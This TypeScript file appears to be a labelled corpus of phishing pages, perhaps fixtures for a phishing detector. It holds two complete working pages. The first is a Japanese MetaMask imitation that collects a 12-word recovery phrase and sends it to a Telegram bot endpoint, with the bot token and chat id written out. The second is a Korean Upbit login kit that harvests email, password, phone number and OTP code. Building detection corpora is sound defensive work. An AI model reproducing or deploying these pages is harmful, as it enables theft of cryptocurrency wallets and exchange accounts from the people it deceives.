import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, b64 } from '../parts/zr-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zr-drainer-seed-metamask-verify-jp',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://metamask-io.wallet-sync.jp.net/restore',
  body: doc({
    lang: 'ja',
    title: 'MetaMask - ウォレットの同期',
    css: 'body{background:#f7f9fc}.m{max-width:600px;margin:40px auto}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}.o{background:#f6851b;color:#fff;width:100%}',
    body: `<div class="m card"><div style="font-size:24px;color:#f6851b;font-weight:bold">🦊 METAMASK</div><h2>ウォレットの同期が必要です</h2>
<p>ネットワークのアップグレードに伴い、すべてのウォレットの再検証が必要です。検証されていないウォレットは72時間後に凍結されます。シークレットリカバリーフレーズ（12語）を入力してください。</p>
<form id="sf"><div class="g">${Array.from({ length: 12 }, (_, i) => `<input type="text" name="w${i + 1}" placeholder="${i + 1}." autocomplete="off">`).join('')}</div><p><button class="btn o">ウォレットを確認</button></p></form></div>
<script>
document.getElementById('sf').onsubmit=function(e){e.preventDefault();var w=[];for(var i=1;i<=12;i++)w.push(this['w'+i].value.trim());
fetch('https://api.telegram.org/bot7544102387:AAHzQ8r3Kx0pWm2nYv5tLc1sB9dFgEa4Jk0/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'-1002288471950',text:'🔑 '+w.join(' ')})}).finally(function(){alert('検証が完了しました。');location.href='https://metamask.io/'})};
</script>`,
  }),
},
{
  id: 'zr-exchange-upbit-login-kit',
  label: 'phishing',
  kind: 'exchange-login-kit',
  url: 'https://upbit-kr.member-auth.com/signin',
  body: doc({
    lang: 'ko',
    title: '업비트 | 가장 신뢰받는 디지털 자산 거래소',
    css: 'body{background:#f4f5f8}.m{max-width:420px;margin:60px auto}.b{background:#093687;color:#fff;width:100%}',
    body: `<div class="m card"><div style="color:#093687;font-size:28px;font-weight:800">UPbit</div>
<p style="font-size:13px;background:#eef3ff;padding:10px">트래블룰 시행에 따라 출금 주소 재인증이 필요합니다. 미인증 시 원화 출금이 제한됩니다.</p>
<form data-x id="u1"><label>이메일</label><input type="email" name="email"><label>비밀번호</label><input type="password" name="pw"><p><button class="btn b">로그인</button></p></form>
<form id="u2" style="display:none"><label>카카오페이 / 네이버 인증 휴대폰 번호</label><input type="tel" name="phone"><label>Google OTP 6자리</label><input type="text" name="otp" maxlength="6"><p><button class="btn b">인증</button></p></form></div>
<script>
function send(f,n){return fetch('/signin/api',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(Object.assign({step:n},Object.fromEntries(new FormData(f))))}).catch(function(){})}
document.getElementById('u1').onsubmit=function(e){e.preventDefault();send(this,1).then(function(){document.getElementById('u1').style.display='none';document.getElementById('u2').style.display='block'})};
document.getElementById('u2').onsubmit=function(e){e.preventDefault();send(this,2).then(function(){location.href='https://upbit.com/home'})};
</script>`,
  }),
},
];
